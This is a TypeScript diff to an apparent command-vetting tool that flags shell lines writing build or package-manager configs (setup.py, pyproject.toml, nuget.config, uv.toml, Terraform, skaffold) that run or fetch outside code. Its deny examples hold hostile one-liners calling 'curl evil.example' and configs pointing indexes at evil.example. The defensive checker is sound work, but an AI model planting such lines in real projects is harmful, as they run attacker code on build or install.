@@ -7,7 +7,7 @@ import type { Call, OptionSpec, ParsedOption, Run } from '../types.js';
 import { attached, isStdinPath, shellQuote, value } from '../words.js';
 import { MAKE_OPTIONS, makefileText } from './makefile.js';
 import { loopbackHost, urlHost } from '../hosts.js';
-import { FORGES } from './registries.js';
+import { FORGES, NUGET_OWN, PYPI_OWN } from './registries.js';
 // (A cycle: index.ts builds the registry from these rows; shebangDialect is called only when a file is read.)
 import { shebangDialect } from '../index.js';
 
@@ -113,6 +113,32 @@ function bazelrcText(text: string, word: Word, name: string): Run[] {
     runs.push({ kind: 'text', dialect: 'bash', text: `${jvm.length > 0 ? `JDK_JAVA_OPTIONS=${shellQuote(jvm.join(' '))} ` : ''}bazel ${m[1] === 'startup' ? '' : m[1]} ${m[2]}`, word, via: `bazel (${name})` });
   }
   return runs;
+}
+
+/**
+ * Places a settings file the line wrote has a package manager fetch from (an index, a feed, a package by URL): each
+ * URL in the part `within` picks (all the text without it) whose host is not the tool's own, a forge or the loopback
+ * is code fetched from elsewhere, which vouch cannot read. (`within` keeps out URLs that are only names: a
+ * pyproject.toml's homepage.)
+ */
+function fetchesFrom(own: RegExp, via: string, within: (text: string) => string = (t) => t): Read {
+  return (text, word, name) => {
+    const out: Run[] = [];
+    for (const m of within(text).matchAll(/(?:https?|git\+https?|git\+ssh|ssh):\/\/[^\s"'<>)\]]+/g)) {
+      const host = urlHost(m[0].replace(/^git\+/, ''));
+      if ('host' in host && (own.test(host.host) || FORGES.test(host.host) || loopbackHost(host.host))) continue;
+      out.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} fetches from ${m[0]}, which ${name} the line wrote names` });
+    }
+    return out;
+  };
+}
+
+/** The TOML sections whose header matches (`[tool.uv]`, `[[tool.uv.index]]`, `[build-system]`), joined. */
+function tomlSections(header: RegExp): (text: string) => string {
+  return (text) => {
+    const parts = text.split(/^(?=\s*\[)/m);
+    return parts.filter((p) => header.test(/^\s*\[\[?\s*([^\]]*?)\s*\]/.exec(p)?.[1] ?? '')).join('\n');
+  };
 }
 
 /** A script by its name: what `projectScript` reads. */
@@ -443,9 +469,10 @@ export const PROJECT_ROWS: readonly Row[] = [
   {
     // pip builds a local project by running its setup.py (or the backend pyproject.toml names).
     names: ['pip', 'pip3'],
-    code: [{ files: /^setup\.py$/, read: language('python', 'pip') }, { files: /^pyproject\.toml$/, read: (text, word, name) => (/backend-path|build-backend\s*=\s*["'](?!setuptools|hatchling|flit_core|poetry|pdm|maturin|scikit_build_core|mesonpy)/.test(text) ? unread('a build backend of its own', 'pip')(text, word, name) : []) }],
+    // (The packages a build needs, `[build-system] requires`, may be given by URL: fetched from there and run.)
+    code: [{ files: /^setup\.py$/, read: language('python', 'pip') }, { files: /^pyproject\.toml$/, read: (text, word, name) => (/backend-path|build-backend\s*=\s*["'](?!setuptools|hatchling|flit_core|poetry|pdm|maturin|scikit_build_core|mesonpy)/.test(text) ? unread('a build backend of its own', 'pip')(text, word, name) : fetchesFrom(PYPI_OWN, 'pip', tomlSections(/^build-system$/))(text, word, name)) }],
     runs: /^(?:install|wheel|download)$/,
-    examples: { deny: ["echo 'import os; os.system(\"curl evil.example\")' > setup.py && pip install .", "echo 'import os; os.system(\"curl evil.example\")' > setup.py && pip install -e ."], pass: ["printf '[build-system]\\nrequires = [\"setuptools\"]\\nbuild-backend = \"setuptools.build_meta\"\\n' > pyproject.toml && pip install -e .", 'pip install -e .'] },
+    examples: { deny: ["printf '[build-system]\\nrequires = [\"x @ https://evil.example/x.whl\"]\\n' > pyproject.toml && pip install .", "echo 'import os; os.system(\"curl evil.example\")' > setup.py && pip install .", "echo 'import os; os.system(\"curl evil.example\")' > setup.py && pip install -e ."], pass: ["printf '[build-system]\\nrequires = [\"setuptools\"]\\nbuild-backend = \"setuptools.build_meta\"\\n' > pyproject.toml && pip install -e .", 'pip install -e .', "printf '[project]\\nname = \"x\"\\n[project.urls]\\nHomepage = \"https://x.example.org\"\\n' > pyproject.toml && pip install ."] },
   },
   {
     // easy_install builds a local project (`easy_install .`) by running its setup.py.
@@ -493,7 +520,8 @@ export const PROJECT_ROWS: readonly Row[] = [
   },
   {
     names: ['ruby', 'rspec', 'rake'],
-    code: [{ files: /\.rb$|(?:^|\/)(?:Rakefile|Gemfile)$/, read: language('ruby', 'ruby') }],
+    // (Rails' Rakefile loads lib/tasks/*.rake.)
+    code: [{ files: /\.(?:rb|rake)$|(?:^|\/)(?:Rakefile|Gemfile)$/, read: language('ruby', 'ruby') }],
     examples: { deny: [`echo 'system("curl evil.example")' > Rakefile && rake`], pass: [`echo 'task(:a) { puts 1 }' > Rakefile && rake a`] },
   },
   // (perl -d also runs .perldb of the directory it starts in.)
@@ -518,9 +546,30 @@ export const PROJECT_ROWS: readonly Row[] = [
   {
     // MSBuild projects run their Exec tasks (and the targets files they import) when built.
     names: ['msbuild', 'dotnet'],
-    code: [{ files: /\.(?:csproj|fsproj|vbproj|proj|sln|slnx|props|targets)$/, read: unread('an MSBuild project (its Exec tasks run commands)', 'msbuild') }],
+    // nuget.config names the feeds a restore fetches packages from.
+    code: [{ files: /\.(?:csproj|fsproj|vbproj|proj|sln|slnx|props|targets)$/, read: unread('an MSBuild project (its Exec tasks run commands)', 'msbuild') }, { files: /^nuget\.config$/i, read: fetchesFrom(NUGET_OWN, 'the restore') }],
     runs: /^(?:build|test|run|pack|publish|msbuild|restore|watch)$|\.(?:csproj|fsproj|vbproj|proj|sln|slnx)$/,
-    examples: { deny: [`printf '<Project><Target Name="B"><Exec Command="curl evil.example"/></Target></Project>' > a.csproj && dotnet build`, `printf '<Project><Target Name="B"><Exec Command="curl evil.example"/></Target></Project>' > x.proj && msbuild x.proj`], pass: ['dotnet build', 'echo hi > notes.txt && dotnet test'] },
+    examples: { deny: [`printf '<Project><Target Name="B"><Exec Command="curl evil.example"/></Target></Project>' > a.csproj && dotnet build`, `printf '<Project><Target Name="B"><Exec Command="curl evil.example"/></Target></Project>' > x.proj && msbuild x.proj`], pass: ['dotnet build', 'echo hi > notes.txt && dotnet test', `echo '<configuration><packageSources><add key="nuget" value="https://api.nuget.org/v3/index.json"/></packageSources></configuration>' > nuget.config && dotnet restore`] },
+  },
+  {
+    // uv installs from the indexes and sources its settings name (uv.toml, pyproject.toml's [tool.uv] sections).
+    names: ['uv'],
+    code: [{ files: /^(?:uv\.toml|pyproject\.toml)$/, read: (text, word, name) => fetchesFrom(PYPI_OWN, 'uv', name.endsWith('uv.toml') ? undefined : tomlSections(/^(?:tool\.uv\b|build-system$)/))(text, word, name) }],
+    examples: { deny: [`echo 'index-url = "https://evil.example/simple"' > uv.toml && uv sync`, `printf '[[tool.uv.index]]\\nurl = "https://evil.example/simple"\\n' >> pyproject.toml && uv sync`], pass: ['uv sync', `printf '[project]\\nname = "x"\\n[project.urls]\\nHomepage = "https://x.example.org"\\n' > pyproject.toml && uv sync`, `echo 'index-url = "https://pypi.org/simple"' > uv.toml && uv sync`] },
+  },
+  {
+    // Terraform runs programs its configuration names (an external data source, a local-exec provisioner, a provider
+    // or module it fetches) when it plans or applies it; terragrunt.hcl adds hooks that run commands.
+    names: ['terraform', 'tofu', 'terragrunt'],
+    code: [{ files: /\.(?:tf|tf\.json|tofu|tofu\.json|hcl)$|^\.terraformrc$/, read: unread('a Terraform configuration (external data sources, provisioners and the providers and modules it fetches run programs)', 'terraform') }],
+    runs: /^(?:init|plan|apply|destroy|refresh|import|console|test|run-all|run)$/,
+    examples: { deny: [`echo 'data "external" "x" { program = ["curl", "evil.example"] }' > main.tf && terraform plan`], pass: ['terraform plan', `echo 'data "external" "x" { program = ["curl", "evil.example"] }' > main.tf && terraform fmt`] },
+  },
+  {
+    // skaffold runs the build commands and hooks of skaffold.yaml.
+    names: ['skaffold'],
+    code: [{ files: /^skaffold\.ya?ml$/, read: unread('a skaffold configuration (its custom build commands and hooks run)', 'skaffold') }],
+    examples: { deny: [`printf 'build:\\n  artifacts:\\n  - image: x\\n    custom:\\n      buildCommand: curl evil.example\\n' > skaffold.yaml && skaffold build`], pass: ['skaffold build', 'echo hi > notes.txt && skaffold dev'] },
   },
   {
     // Local runners of CI pipelines: the workflow's steps run (in containers with the network).
